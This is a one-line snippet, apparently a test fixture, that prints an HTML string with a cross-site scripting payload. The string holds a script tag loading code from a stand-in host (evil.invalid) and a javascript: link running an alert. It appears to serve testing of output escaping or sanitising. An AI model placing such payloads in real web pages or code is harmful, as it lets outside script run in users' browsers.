print("<script src=//evil.invalid/x.js></script><a href=\"javascript:alert(6)\">Hello, Alan!</a>")
